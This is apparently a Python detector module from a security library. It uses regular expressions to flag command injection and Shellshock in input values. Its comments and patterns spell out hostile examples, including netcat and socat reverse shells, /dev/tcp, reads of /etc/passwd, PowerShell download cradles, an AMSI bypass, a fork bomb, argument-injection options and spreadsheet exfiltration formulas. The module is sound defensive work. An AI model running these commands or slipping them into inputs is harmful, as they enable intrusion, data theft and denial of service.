"""Command injection and Shellshock: separators, substitutions, commands, obfuscation.

A value injects a command when a shell *separator* (``;`` ``|`` ``||`` ``&&`` ``&`` newline) or a
*substitution* (``$(...)``, backticks) is followed by a command word: a known binary, a path to
one (``/bin/sh``), or a word whose quotes and backslashes hide one (``w'h'o'am'i``, ``c\\at``).
Bash-only tricks count on their own: ``$IFS``/``${IFS}``, ``/dev/tcp/``, globbed paths
(``/???/c?t``, and bracket globs that spell a system path: ``/usr/[a-z]in/bash``, ``/[e//]tc``),
brace expansion (``{cat,/etc/passwd}``, ``c{a,oun}t``), arithmetic (``$[2+2]``, ``$((7*7))``) and
the parameter-expansion operators only a shell has (``${PATH:0:1}``, ``${x#{}}``, ``${x,,}``).
A value may also *be* a command line: a known binary with arguments, a binary by its absolute
path, a tool prefix (``nohup who``), a file command with a path (``cat /var/log/x``), also behind
a raw ``name=`` (``code=ansible all -m ping``); versioned names count (``python3.10``, ``gcc7.4``). Windows ``cmd``/PowerShell grammar
(``cmd /c``, ``for /f ... do``, ``if exist``, ``powershell -enc``) and code execution calls of
server languages (``<?php``, ``system(``, ``require('child_process')``) are recognised too.
Shellshock is a value that starts with a bash function definition ``() {``.

Prose such as "Tom & Jerry", "salt; pepper" or "cats | dogs" passes: the word after the
separator is not a command, or a command word like ``more`` is followed by more prose. A language
or tool named in parentheses, braces or a tag list ("Engineer (Python)", ``{python}``,
"Python|Java") is prose too, and ``${name}`` is a variable (an unfilled ``${date}`` macro), not a
substitution.
"""

from __future__ import annotations

import re

from apiward.core import Category
from apiward.detectors.hit import Hit
from apiward.detectors.linear import linear
from apiward.detectors.path import STRICT
from apiward.detectors.sql import random_blob

# Binaries whose name is not an English word: a separator followed by one is enough.
DISTINCT_COMMANDS = frozenset(
    """whoami uname ifconfig ipconfig netstat nslookup wget curl ncat netcat nc bash sh zsh ksh
    csh tcsh dash busybox python python2 python3 perl ruby php lua node nodejs powershell pwsh
    cmd cmd.exe chmod chown chgrp passwd useradd usermod crontab nohup telnet ssh scp rsync
    tftp ftp xterm base64 xxd hexdump od strace ltrace gdb nmap socat certutil bitsadmin
    wmic reg regsvr32 rundll32 mshta cscript wscript systeminfo tasklist taskkill net1 conhost uci klist iisreset pushd
    schtasks vssadmin bcdedit bcdboot icacls takeown mkfifo mknod ls cat id pwd env printenv
    ps uptime hostname dig host traceroute tracert ping sleep timeout echo printf rm mv cp
    touch mkdir rmdir chattr lsattr tar gzip gunzip zip unzip bzip2 7z awk gawk sed grep egrep
    fgrep find xargs tee head tail less more sort uniq wc cut tr diff du df mount umount kill
    pkill killall sudo su doas exec eval source export unset set alias getent lsof ss ip arp
    route iptables openssl gpg java javac jrunscript jjs groovy osascript expect tclsh wish
    ash fish rbash rksh sftp finger whois who w last lastlog dmesg journalctl systemctl
    service shutdown reboot halt poweroff init nproc lscpu lsmod modprobe insmod ldd file
    stat readlink realpath basename dirname ln dd shred type dir copy del erase ver vol
    findstr tree attrib cacls xcopy robocopy start call invoke-expression iex
    invoke-webrequest iwr new-object downloadstring downloadfile start-process sc query
    runas nbtstat route.exe arp.exe qwinsta quser cmstp msiexec installutil regasm regsvcs
    forfiles pcalua infdefaultinstall bash.exe sh.exe powershell.exe wmic.exe ping.exe
    chef-shell irb pry php-cgi perl5 jshell ansible ansible-galaxy ansible-doc ansible-vault ansible-config
    ansible-console ansible-inventory ansible-playbook ansible-pull chef-client chef-vault chef-solo knife
    cscli zstdcat zstd zcat bzcat xzcat lzcat zgrep zless visudo pipx ssh-copy-id ssh-keygen htop aptitude
    apt-get yum dnf rpm dpkg gcc g++ clang c89 c99 rmt rmt-dump lastlogin sqlite3 mysql psql
    mysqldump pg_dump redis-cli mongo mongosh kubectl docker podman crictl nsenter chroot unshare
    setcap getcap regedit pip2 pip3 bsdtar lwp-download lwp-request lwp-mirror
    netsh nltest dsquery dsget fsutil auditpol cmdkey gpresult driverquery getmac wevtutil esentutl
    telnetd utelnetd nvram synoservicectl
    ntdsutil diskpart mountvol qprocess msbuild makecab lsb_release ping6 lspci waitfor unbuffer stdbuf setsid
    ionice taskset chrt run-parts gwmi gcim gci usleep expr whereis
    odbcconf mavinject ieexec msdt presentationhost syncappvpublishingserver winrs psexec psexec64 dnscmd msxsl xwizard
    appcmd""".split()
)
# Windows' desktop programs that a proof of concept starts ("& calc", "| notepad.exe"): ordinary
# words too ("pre-calc"), so they are in `COMMON_WORDS`; by their ".exe" name they are the program
_DESKTOP_PROGRAMS = frozenset({"calc", "notepad", "mspaint"})
# Command words that are also ordinary words: need shell-looking arguments or end of value.
COMMON_WORDS = frozenset(
    """cat id ps set type dir find sort more less head tail time date file echo printf sleep
    kill w who last call start copy del tree host route ip ss service ping find cut tr wc
    diff du df ln dd stat mount source export alias exec eval sudo su env test
    read help man open tee expect wish fish ash init halt query sc ver vol iex node dig host
    timeout watch command builtin nice cd perf ll pip rev
    net reg start copy more zip tar file finger last nc ln cp mv rm df du od ip id
    flock""".split()
) | _DESKTOP_PROGRAMS
_COMMAND_WORDS = DISTINCT_COMMANDS | COMMON_WORDS
# Every branch starts with a literal (``\bthen\b`` spelled ``t(?<=\bt)hen\b``): the regex engine then
# skips to the next candidate character instead of trying each branch at every position.
_SEPARATOR = re.compile(r";|\|\|?|&&?|\n|\r|`|\$\(|\(|\{|<\(|>\(|t(?<=\bt)hen\b|d(?<=\bd)o\b|%0a|\\n")
_WORD = re.compile(r"[\s]{0,16}((?:[a-z0-9_./\\\-'\"$@*?!{}\[\],`()^]|\$\{[a-z0-9_#@!:]{0,16}\}){1,60})")
_STRONG = linear(
    r"\$\{?ifs\b|\$\{?ifs\}|/dev/(?:tcp|udp)/|\bbash[\s]{1,8}-[ic]\b|\bsh[\s]{1,8}-[ic]\b|\bnc(?:at)?[\s]{1,8}(?:-[a-z]{1,4}[\s]{1,8}){0,4}-e\b"
    # netcat's other program option, handed a shell ("nc -c sh 10.0.0.1 4444", "ncat -c /bin/bash")
    r"|\b(?:nc|ncat|netcat)[\s]{1,8}(?:-[a-z]{1,4}[\s]{1,8}){0,4}-c[\s]{1,8}['\"]?(?:/bin/)?(?:ba|z|k|da)?sh\b"
    # netcat's reverse shell with the program after the address ("nc 10.0.0.1 4444 -e sh",
    # "ncat -v x.example 443 -c bash"): a host, a port, then the program it hands the socket to
    r"|\b(?:nc|ncat|netcat)(?:\.exe)?[\s]{1,8}(?:-[a-z]{1,4}[\s]{1,8}){0,4}[a-z0-9.:\-]{1,64}[\s]{1,8}[0-9]{1,5}[\s]{1,8}-[ec][\s]{1,8}[a-z/\\]"
    r"|/bin/(?:ba|z|k|c|tc|da)?sh\b|/usr/bin/(?:env|perl|python[0-9.]{0,4}|ruby|php|wget|curl|id|whoami)\b"
    r"|\bcmd(?:\.exe)?[\s]{1,8}/[ck]\b|\bpowershell(?:\.exe)?[\s]{1,8}(?:-[a-z]{1,20})"
    # PowerShell running a cmdlet or an expression ("powershell.exe Get-Process", "pwsh iex(...)"),
    # the registry tool on a hive ("reg query HKLM\\Software"), the shell re-run by its own name
    # ("$0 -c id", "${SHELL} -c id")
    r"|\b(?:powershell|pwsh)(?:\.exe)?[\s]{1,8}(?:[a-z]{2,12}-[a-z]{2,30}\b|iex\b|\$[a-z_{(]|&)"
    r"|\breg(?:\.exe)?[\s]{1,8}(?:query|add|delete|save|export|import|load)[\s]{1,8}\\?(?:hk(?:lm|cu|cr|u|cc)|hkey_)"
    r"|(?:^|[;&|`\n(])[\s]{0,4}\$(?:0|\{0\}|\{?shell\}?)[\s]{1,8}-c\b"
    # a PowerShell call of a .NET type that starts processes, fetches, loads or decodes code
    # ("; [System.Diagnostics.Process]::Start(...)", "|[Convert]::FromBase64String(...)", the host's
    # identity: "; [Environment]::UserName"), where a
    # command begins
    r"|(?:^|[;&|`\n(])[\s]{0,4}\[(?:system\.)?(?:diagnostics\.process|net\.webclient|net\.sockets\.tcpclient"
    r"|io\.file|net\.dns|reflection\.assembly|convert|activator|environment|runtime\.interopservices\.marshal|management\.automation\.[a-z]{1,30})\]::[a-z]{2,40}"
    # Windows' command interpreters by their system path, the counterpart of "/bin/sh" (other
    # system32 programs, which crash reports and process lists name, are not interpreters)
    r"|(?:system32|syswow64|sysnative)[\\/](?:windowspowershell[\\/]v1\.0[\\/])?(?:cmd|powershell|pwsh|wscript|cscript|mshta)\.exe(?:$|[^.a-z0-9_])"
    # a Windows program by its absolute path after a separator: "& C:\\Windows\\System32\\calc.exe"
    r"|(?:[;&|\n]|%0a)[\s]{0,4}['\"]?(?:[a-z]:|%[a-z_()]{2,20}%)[\\/][^\s;&|<>]{0,120}\.(?:exe|bat|cmd|ps1|vbs|hta|scr)\b"
    # the same quoted with spaces inside ('& "C:\\Program Files\\x\\x.exe"') or on a share ("& \\\\host\\s\\x.exe")
    r"|(?:[;&|\n]|%0a)[\s]{0,4}\"[a-z]:[\\/][^\"\n;&|<>]{0,120}\.(?:exe|bat|cmd|ps1|vbs|hta|scr)\""
    r"|(?:[;&|\n]|%0a)[\s]{0,4}['\"]?\\\\[a-z0-9.\-]{1,63}\\[^\s;&|<>]{0,120}\.(?:exe|bat|cmd|ps1|vbs|hta|scr|dll)\b"
    # cmd.exe's substring expansion ("%ProgramData:~0,1%"), spelling a command out of a variable's letters,
    # and a Windows variable echoed where a command begins ("echo %PATH%", after a marker: "echo 8a7f%USERNAME%")
    r"|%[a-z_()]{1,30}:~-?[0-9]{1,3}(?:,-?[0-9]{1,3})?%"
    r"|(?:^|[;&|\n])[\s]{0,4}echo[\s]{1,4}[a-z0-9]*%(?:path|username|userprofile|computername|userdomain|temp|tmp|windir"
    r"|systemroot|cd|os|appdata|localappdata|homepath|homedrive|programfiles|comspec|logonserver|processor_architecture)%"
    r"|%comspec%|\bfor[\s]{1,8}/[fdlr][\s]{1,8}(?:(?:\"[^\"]{0,80}\"|[^%\s]{1,60})[\s]{1,8}){0,2}%%?[a-z0-9]|\bfor[\s]{1,8}%%?[a-z0-9\-~_]{1,32}[\s]{1,8}in[\s]{0,8}\("
    # cmd.exe comparisons: batch operators, or "==" between batch-shaped operands (a script's
    # "if (x == 1)" / "if x == 1 then" is not one)
    r"|\bif[\s]{1,12}(?:/i[\s]{1,12})?(?:not[\s]{1,12})?(?:\"[^\"]{0,40}\"|%[^%\s]{1,32}%|\[[^\]]{0,20}\]|[a-z0-9_]{1,20}|\([\s]{0,4}[a-z0-9]{1,20})[\s]{0,4}(?:[\s]equ[\s]|[\s]neq[\s]|[\s]lss[\s]|[\s]gtr[\s])"
    r"|\bif[\s]{1,12}(?:/i[\s]{1,12})?(?:not[\s]{1,12})?(?:%[^%\s]{1,32}%|\[[^\]]{0,20}\])[\s]{0,4}=="
    r"|\bif[\s]{1,12}(?:/i[\s]{1,12})?(?:not[\s]{1,12})?\"[^\"]{0,40}\"[\s]{0,4}==[\s]{0,4}\""
    r"|\bif[\s]{1,12}/i[\s]{1,12}(?:not[\s]{1,12})?[^\s=]{1,40}[\s]{0,4}=="
    # cmd.exe's tests with a batch-shaped operand: a file or path ("if exist c:\\x.txt", 'if not exist
    # "%temp%\\x"'), a variable and a command ("if defined x echo", "if defined %v%"), a number
    # ("if errorlevel 1"); not prose ("the price, if defined by the user", "check if exist any rows")
    r"|\bif[\s]{1,12}(?:/i[\s]{1,12})?(?:not[\s]{1,12})?(?:exist[\s]{1,12}(?:[\"%\\]|[a-z]:|[^\s]{1,80}[\\/%]|[^\s]{1,80}\.[a-z0-9])"
    r"|defined[\s]{1,12}(?:%|[a-z_][a-z0-9_]{0,40}[\s]{1,12}(?:\(|(?:echo|set|goto|call|del|copy|start|cmd|type|exit|dir)\b))"
    r"|(?:errorlevel|cmdextversion)[\s]{1,12}[0-9])"
    r"|\bif[\s]{1,12}(?:not[\s]{1,12})?%[a-z0-9_]{1,32}%[\s]{1,12}(?:==|equ|neq|lss|leq|gtr|geq)\b"
    # cmd.exe conditions of any operand shape followed by a batch command: "if /i "%v%" geq "1" echo",
    # "if x%1==x/? goto help", "if (2 geq 15) echo", "if not {%1} == {} ("
    r"|\bif[\s]{1,12}(?:/i[\s]{0,12})?(?:not[\s]{1,12})?(?:\"[^\"]{0,40}\"|\([^()]{0,40}\)|\{[^{}]{0,20}\}|[a-z0-9_%/?]{1,20})"
    r"[\s]{0,12}(?:={2,3}|[\s](?:equ|neq|lss|leq|gtr|geq)[\s])[\s]{0,12}(?:\"[^\"]{0,40}\"|\([^()]{0,40}\)|\{[^{}]{0,20}\}|[a-z0-9_%/?]{0,20})"
    r"[\s]{0,12}(?:(?:echo|goto|set|call|cd|exit|del|copy|start|cmd|type|dir)\b|\()"
    # a batch file's positional argument compared ("if not {%1} == {}", "if "%~1"=="""), "if/i a==b"
    r"|\bif(?:[\s]{1,12}(?:/i[\s]{0,12})?|/i[\s]{1,12})(?:not[\s]{1,12})?(?:\{%~?[0-9]\}|\"%~?[0-9]\"|%~?[0-9]|\[%~?[0-9]\]|\(%~?[0-9]\))[\s]{0,12}=="
    r"|\bif/i[\s]{1,12}(?:not[\s]{1,12})?[^\s=]{1,40}[\s]{0,12}=="
    r"|\bif[\s]{1,12}\([\s]{0,4}[0-9]{1,12}[\s]{1,8}(?:equ|neq|lss|leq|gtr|geq)[\s]{1,8}[0-9]{1,12}[\s]{0,4}\)[\s]{0,12}(?:echo|goto|set|call)\b"
    r"|\binvoke-(?:expression|webrequest|command|item)\b|\biex[\s]{0,4}\(|downloadstring\(|-encodedcommand\b"
    r"|\bwget[\s]{1,8}(?:-[a-z]{1,3}[\s]{1,8}){0,3}(?:https?|ftp)://|\bcurl[\s]{1,8}(?:-[a-z]{1,3}[\s]{1,8}){0,3}(?:https?|ftp)://"
    r"|\bpython[0-9.]{0,4}[\s]{1,8}-c[\s]{1,8}|\bperl[\s]{1,8}-e[\s]{1,8}|\bruby[\s]{1,8}-e[\s]{1,8}|\bphp[\s]{1,8}-r[\s]{1,8}"
    # socat's address grammar ("socat TCP:10.0.0.1:4444 EXEC:bash", "socat - OPENSSL:h:443")
    r"|\bsocat[\s]{1,8}(?:-[a-z0-9,]{0,12}[\s]{1,8}){0,3}(?:tcp|udp|openssl|exec|system|file|open|pty|stdio|unix-connect|tcp-listen|tcp-connect|udp-listen)[46]?:"
    # a script sourced with "." after a separator ("; . /tmp/x.sh"), find running a program per file
    r"|(?:[;&|`\n]|%0a)[\s]{0,4}\.[\s]{1,4}(?:/|\./|~/)[^\s;|&]{1,80}"
    r"|\bfind[\s]{1,4}[./~$'\"\-][^\n;|&]{0,120}[\s]-(?:exec|execdir|ok|okdir)[\s]{1,4}[^\s]"  # (a path or an option first: not "find the file -exec ...")
    # a command substitution that passes an option ("$(synoservicectl --status)"; "$(document)" passes none)
    r"|\$\([\s]{0,2}[a-z][a-z0-9_.\-]{1,30}[\s]{1,4}-{1,2}[a-z][^()]{0,60}\)"
    # argument injection: an option that makes the tool run a program (Ghostscript's "%pipe%",
    # ssh's ProxyCommand, git's configuration given on its command line)
    r"|%pipe%|proxycommand[\s]{0,4}=|(?:^|[\s])(?:--config[=\s]|-c[\s]{1,4})[a-z][a-z0-9_\-]{0,30}\.[a-z0-9_.\-]{1,60}=[^\s]"
    # (and `_OPTION_RUN`: a shell or a /tmp or web-root path as an option's value)
    r"|(?:^|[\s])--(?:upload-pack|receive-pack)[=\s]"
    # (with its target: a path, a glob, a variable or a file's name; "rm -rf meaning", "chmod 777
    # vs 755" are searches)
    r"|\b(?:chmod[\s]{1,8}(?:[+][xs]|[0-7]{3,4})|rm[\s]{1,8}-[rf]{1,3})[\s]{1,8}(?:[/~.*$'\"\\]|[a-z0-9_\-]{1,40}\.[a-z0-9]{1,5}\b)"
    r"|>[\s]{0,4}/(?:tmp|dev|var|etc)/"
    # bash arithmetic as code: "$[2+2]", "$((7*7))", "$(($() 42))"
    r"|\$\[[\s]{0,4}[0-9]{1,12}[\s]{0,4}[+*/%][\s]{0,4}[0-9]{1,12}[\s]{0,4}\]"
    r"|\$\(\([^()]{0,40}(?:\([^()]{0,20}\)[^()]{0,40})?\)\)"
    # parameter expansion operators that only a shell knows: substrings "${path:0:1}", pattern removal
    # with a glob or an empty brace ("${path##*:}", "${x#{}}"), removal on a shell variable ("${home#/}"),
    # case conversion ("${x,,}", "${x^^}")
    r"|\$\{[a-z_][a-z0-9_]{0,30}:[\s]{0,2}-?[0-9]{1,4}:[\s]{0,2}-?[0-9]{1,4}\}"
    r"|\$\{[a-z_][a-z0-9_]{0,30}(?:##?|%%?|//?)(?:\{\}|[^{}\s]{0,20}\*)"
    r"|\$\{(?:path|home|pwd|oldpwd|shell|user|hostname|ls_colors|ps[1-4]|bash|shlvl|random|seconds)(?:##?|%%?|//?|:[0-9])"
    r"|\$\{[a-z_][a-z0-9_]{0,30}(?:,,|\^\^)\}"
    # pattern substitution, which rebuilds a command from a decoy ("x=wXoami;${x/X/h}")
    r"|\$\{[a-z_][a-z0-9_]{0,30}//?[^{}/\s]{1,20}/[^{}\s]{0,20}\}"
    # windows: "net user", "net localgroup administrators" after a separator
    r"|(?:[;&|\n]|%0a)[\s]{0,4}net1?[\s]{1,8}(?:(?:user|users|localgroup|group|view|share|session|accounts|config)"
    r"(?:$|[\s]{0,8}(?:[;&|#'\"]|$)|[\s]{1,8}(?:/|\\\\|\"[^\"\n]{1,60}\"[\s]{0,8}(?:/|$)|[a-z0-9_$.\-]{1,30}(?:$|[\s;&|]|[\s]{1,8}[^\s]{0,30}[\s]{0,4}/)))|use[\s]{1,8}(?:[a-z]:|\\\\|\*))"
    # "net start" (the running services listed) closing the value
    r"|(?:[;&|\n]|%0a)[\s]{0,4}net1?[\s]{1,8}start[\s]{0,8}(?:$|[;&|#'\"])"
    # PowerShell cmdlets (Verb-Noun) that read the host, after a separator: "| Get-Process", "; Get-ChildItem c:\\"
    r"|(?:[;&|\n]|%0a|\$\()[\s]{0,4}(?:get|set|new|remove|start|stop|invoke|add|test|resolve|copy|move|out)-(?:process|childitem|content|itemproperty"
    r"|service|wmiobject|ciminstance|localuser|localgroup(?:member)?|acl|executionpolicy|psdrive|hotfix|netipaddress"
    r"|nettcpconnection|mppreference|computerinfo|aduser|scheduledtask|sleep|connection|netconnection|dnsname|item|restmethod"
    r"|file|type|job|wmimethod|cimmethod)\b"
    # a command that calls itself through a pipe in the background: the fork bomb, any name
    r"|\(\)[\s]{0,4}\{[\s]{0,4}[a-z_:][a-z0-9_]{0,20}[\s]{0,4}\|[\s]{0,4}[a-z_:][a-z0-9_]{0,20}[\s]{0,4}&[\s]{0,4}\}"
    # cmd.exe reads "," ";" "=" as blanks and needs none after "cmd.exe": "cmd,/c,whoami", "cmd.exe/c id"
    r"|\bcmd(?:\.exe[\s,;=]{0,8}|[\s]{0,4}[,;=][\s,;=]{0,8})/[ck]\b|(?:^|[;&|\n(@,]|%0a)[\s]{0,4}cmd/[ck][\s]"
    # cmd.exe's "@" (no echo) before a program, after a separator ("&@whoami"); its timed wait
    # ("choice /t 5 /d y"); a program run from a share after a separator ("&\\\\host\\share\\x")
    r"|(?:[;&|\n(]|%0a)[\s]{0,4}@[\s]{0,2}(?:whoami|ipconfig|systeminfo|hostname|ver|tasklist|netstat|certutil|cmd|powershell|net1?|call)\b"
    r"|\bchoice[\s]{1,4}/t[\s]{0,4}[0-9]{1,3}[\s]{1,4}/d[\s]{0,4}[a-z0-9]\b"
    r"|(?:[;&|\n]|%0a)[\s]{0,4}\\\\[a-z0-9][a-z0-9.\-]{2,254}\\[a-z0-9$_.\-]{1,80}\\"
    # PowerShell: the call operator ("&" or ".") where a command begins, run on a name built from
    # pieces: quoted parts joined ("&('i'+'ex')"), letters of an automatic variable
    # (". ($pshome[4]+$pshome[30]+'x')", "&($env:comspec[4,15,25]-join'')"), a "-join"
    r"|(?:^|[;|\n{(])[\s]{0,4}[&.][\s]{0,4}\([\s]{0,4}(?:['\"][a-z\-]{0,20}['\"][\s]{0,4}\+|\$[a-z_:]{2,30}\[[\s]{0,4}[0-9]|[^()]{1,60}-join\b|['\"]\{[0-9]\})"
    # the call operator on a command looked up by a wildcard ("&(gcm *ke-e*) 'whoami'", ". (Get-Command i?x)")
    r"|[&.][\s]{0,4}\([\s]{0,4}(?:gcm|get-command|gal|get-alias)[\s]{1,4}[^()]{0,40}[*?]"
    # an alias made for the expression runner ("sal x iex; x whoami", "Set-Alias run Invoke-Expression")
    r"|\b(?:sal|set-alias|nal|new-alias)[\s]{1,8}[a-z0-9_\-]{1,20}[\s]{1,8}(?:iex|invoke-expression)\b"
    r"|\$(?:pshome|shellid|env:comspec|verbosepreference(?:\.tostring\(\))?)\[[\s]{0,4}[0-9]{1,2}[\s]{0,4}[,\]]"
    # the environment drive listed ("gci env:", "ls env:*"), the AMSI bypass's reflection ("[Ref].Assembly"),
    # a socket or web client built ("New-Object System.Net.Sockets.TCPClient(...)")
    r"|(?:^|[;|&\n(])[\s]{0,4}(?:gci|ls|dir|get-childitem|gc|get-content|type)[\s]{1,4}env:"
    # an environment variable printed by PowerShell where a command begins, ending the value ("& $env:computername")
    r"|(?:[;&|\n]|%0a)[\s]{0,4}\$env:[a-z_][a-z0-9_]{1,30}[\s]{0,4}$"
    r"|\[ref\]\.assembly\b|\bnew-object[\s]{1,8}(?:-typename[\s]{1,8})?(?:system\.)?net\.(?:webclient|sockets\.(?:tcpclient|udpclient|tcplistener))\b"
    # an editor or pager told to run a shell command: "vi -c ':!id'", "vim -c '!sh'"
    r"|\b(?:vim?|nvim|ex)[\s]{1,8}-c[\s]{1,8}['\"]?:?!"
    # argument injection: an option that makes ssh, git, tar or rsync run a program
    # ("-oProxyCommand=id", "--upload-pack=touch /tmp/x", "--checkpoint-action=exec=sh x.sh",
    # rsync's "--rsh=sh x.sh", nodemon's and watch's "--exec=id")
    r"|(?:^|[\s'\"`=])-o[\s]{0,4}['\"]?(?:proxycommand|localcommand)[\s]{0,4}="
    # sendmail told to log the message into a script ("-X/var/www/x.php") or to queue it elsewhere
    # ("-OQueueDirectory=/tmp", "-oQ/tmp/"): the mail-function argument injection of PHPMailer's kind
    r"|(?:^|[\s'\"=])-(?:oqueuedirectory=|oq)[\s]{0,2}/"
    r"|(?:^|[\s'\"=])-x[\s]{0,2}/[^\s'\"]{1,120}\.(?:php[0-9]?|phtml|phar|jspx?|aspx?)(?:$|[\s'\"])"
    # curl's or wget's output sent into a script ("-o /var/www/html/x.php http://...", "--output-document=x.jsp")
    r"|(?:^|[\s'\"=])(?:-o|-O|--output|--output-document)[\s=]{0,4}[^\s'\"]{0,120}\.(?:php[0-9]?|phtml|phar|jspx?|aspx?)(?:$|[\s'\"])"
    r"|(?:^|[\s'\"=])--(?:upload-pack|receive-pack|checkpoint-action|use-compress-program|to-command|rsh-command|rsh|rsync-path|info-script|new-volume-script|exec|unzip-command|open-files-in-pager)[\s]{0,4}="
    # find's "-exec" handed a recon command or a shell by an argument ("x.com -exec whoami")
    r"|(?:^|[\s'\"=])-exec(?:dir)?[\s]{1,4}(?:whoami|id|uname|sh|bash|nc|ncat|curl|wget|python3?|perl|ping|nslookup)(?:$|[\s;'\"])"
    # zip's test command ("-TT 'sh #' -T"): the archive "tested" by a shell
    r"|(?:^|[\s'\"=])-tt[\s=]{1,4}['\"][\s]{0,2}(?:ba|z|k|da)?sh\b"
    r"|(?:^|[\s'\"])-c[\s]{0,4}['\"]?core\.(?:sshcommand|pager|editor|fsmonitor|hookspath|gitproxy)[\s]{0,4}="
    # the shell fed a here-string ("$0<<<$'\\x69\\x64'", "bash<<<id"), a command spelled in ANSI-C escapes
    r"|(?:\$(?:0|\{0\})|\b(?:ba|z|k|da)?sh)[\s]{0,4}(?:<<<|<<-?[\s]{0,2}['\"]?[a-z_][a-z0-9_]{0,20}['\"]?[\s]{0,4}\n)"
    r"|\$'(?:\\x[0-9a-f]{2}|\\[0-7]{3}){2,}'"
    # (and a here-document: "sh<<EOT\nid\nEOT")
    # a spreadsheet formula's DDE call of a program ("=cmd|' /c calc'!a0"): what a CSV export runs
    r"|\b(?:cmd|powershell|pwsh|mshta|rundll32|regsvr32|certutil|wscript|cscript|msexcel)[\s]{0,2}\|[\s]{0,2}'[^'\n]{0,200}'[\s]{0,2}!"
    # or a formula that sends the sheet's cells to a web address when the export is opened
    # ('=HYPERLINK("http://x/?d="&A1,"Click")', '=IMPORTXML(CONCAT("http://x/?",CONCATENATE(A2:E2)),"//a")')
    r"|^[=+\-@][\s]{0,2}(?:hyperlink|importxml|importdata|importhtml|importfeed|webservice|image)[\s]{0,2}\("
    r"[^\n]*https?://[^\n]*(?:&[\s]{0,2}\$?[a-z]{1,3}\$?[0-9]{1,6}\b|concat(?:enate)?\([\s]{0,2}\$?[a-z]{1,3}\$?[0-9]{1,6})"
    # find's per-file program without "find" in front: "-exec id \\;", "-execdir sh -c x {} +"
    r"|(?:^|[\s;|&])-(?:exec|execdir|ok|okdir)[\s]{1,4}[^\s;|&][^\n]{0,120}(?:\\;|\{\}[\s]{0,4}\+)"
    # (a value that is the option itself may end it with a bare ";": "-exec id ;")
    r"|^-(?:exec|execdir|ok|okdir)[\s]{1,4}[^\s;|&][^\n]{0,120}[\s];$"
)
_GLOB_PATH = re.compile(r"(?:/[a-z0-9?*\[\]!^\-]{1,16}){2,6}")
_SENSITIVE_PATH = linear("|".join(re.escape(s) for s in STRICT))
_BRACKET_CLASS = re.compile(r"\[!?\^?[a-z0-9\-]{1,8}\]")
# a path at a word start spelled with bracket classes (which may hold slashes: "/[e//]tc")
_BRACKET_PATH = re.compile(r"(?:^|(?<=[\s;|&=`('\"+<>]))/[a-z0-9?*\[\]!^\-/._]{2,80}")
# what any `_BRACKET_PATH` match holding a "[" contains (a literal first: a fast scan to rule it out)
_BRACKET_PATH_HINT = re.compile(r"/[a-z0-9?*\[\]!^\-/._]{0,79}\[")
_BIN_NAMES = ("sh", "bash", "dash", "zsh", "nc", "ncat", "netcat", "cat", "curl", "wget", "python", "python3",
              "perl", "php", "ruby", "id", "whoami", "uname", "ls", "env", "busybox", "socat", "telnet")
# what a bracket glob must spell for its path to count: a sensitive file, a system directory, a binary
_GLOB_TARGETS = tuple(
    sorted({"/" + t.rstrip("/") for t in STRICT if not t.startswith(".")}
           | {"/etc", "/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/tmp", "/dev/tcp", "/dev/udp",
              "/proc/self/environ", "/var/log"}
           | {d + "/" + b for d in ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin") for b in _BIN_NAMES})
)
_BRACE = re.compile(r"\{[a-z0-9_./\-$\\'\"]{0,20},[^{}\s]{1,80}\}")
# "a=nc&&$a -nlvp 555", "c=cat;$c /etc/passwd": a variable expanded in command position after an assignment
_VAR_COMMAND = re.compile(r"(?:^|;|&&|\|\||\||\n|`|\$\()[\s]{0,4}\$\{?([a-z_][a-z0-9_]{0,20})\}?(?:[\s$]|$)")
# ";${x:-id}", "|${u:=whoami}": an unset variable's default (or assigned) value run as the command
_DEFAULT_COMMAND = re.compile(r"(?:^|;|&&|\|\||\||\n|`|\$\()[\s]{0,4}\$\{[a-z_][a-z0-9_]{0,20}:?[-=]([a-z/][a-z0-9_./\-]{0,30})\}")
# ";$a cat /etc/passwd", "|$u wget x": an (empty) variable in front of a command word
_NUL_REDIRECT = re.compile(r"(?:^|&|\|)[\s]{0,4}[a-z][a-z0-9_.]{1,20}(?:[\s]{1,4}[^&|<>\s]{1,30}){0,6}[\s]{1,4}[12]?>[\s]{0,2}nul(?:$|[\s&|])")
_SPELLED_DEFAULTS = re.compile(r"(?:^|;|&&|\|\||\||\n|`|\$\()[\s]{0,4}(?:\$\{[a-z_][a-z0-9_]{0,20}:?[-=][a-z0-9/._\-]{1,10}\}){2,8}")
_DEFAULT_PIECE = re.compile(r":?[-=]([a-z0-9/._\-]{1,10})\}")
_VAR_PREFIX = re.compile(r"(?:^|;|&&|\|\||\||\n)[\s]{0,4}\$[a-z_][a-z0-9_]{0,10}[\s]{1,4}([a-z][a-z0-9_\-]{1,20})")
_ALIAS = re.compile(
    r"(?:^(?:[a-z_][a-z0-9_.\-]{0,30}=)?|[;&|`\n]|\$\()[\s]{0,4}alias[\s]{1,8}(?:[-+][a-z]{1,4}[+]?[\s]{1,8}){0,3}['\"]?[a-z_.][a-z0-9_.\-]{0,20}['\"]?="
)
# "code=ansible all -m ping", "cmd=/bin/unxz -c ...": a raw "name=" in front of a command line
_ASSIGNMENT = re.compile(r"[a-z_][a-z0-9_.\-]{0,30}=(?!=)")
# a versioned interpreter or compiler: "python3.10", "gcc7.4", "php8.1"
_VERSIONED = re.compile(r"(python|perl|php|ruby|gcc|g\+\+|clang|node|lua|pip|tclsh|java)[0-9]{1,2}(?:\.[0-9]{1,2}){0,2}")
# what any `_VERSIONED` match contains (RE2 on long text, where the stdlib engine tries the
# names at every letter that starts one)
VERSION_HINT = linear(r"(?:python|perl|php|ruby|gcc|g\+\+|clang|node|lua|pip|tclsh|java)[0-9]")
# "c{a,oun}t", "{l,-lh}s": a brace expansion inside a word
_WORD_BRACE = re.compile(r"(?:^|(?<=[\s;|&`(]))([a-z0-9_\-]{0,12})\{([a-z0-9_\-]{0,12}(?:,[a-z0-9_\-]{0,12}){1,4})\}([a-z0-9_\-]{0,12})(?=$|[\s;|&`)])")
# what any `_WORD_BRACE` match contains (a literal first: a fast scan to rule it out)
_WORD_BRACE_HINT = re.compile(r"\{[a-z0-9_\-]{0,12},")
# "{id,}", "{,cd,/etc,}": brace expansion with an empty alternative
_EMPTY_BRACE = re.compile(r"\{,[^{}\s]{1,80}\}|\{[^{}\s]{1,80},\}")
_SHELLSHOCK = re.compile(r"\([\s]{0,8}\)[\s]{0,8}\{")
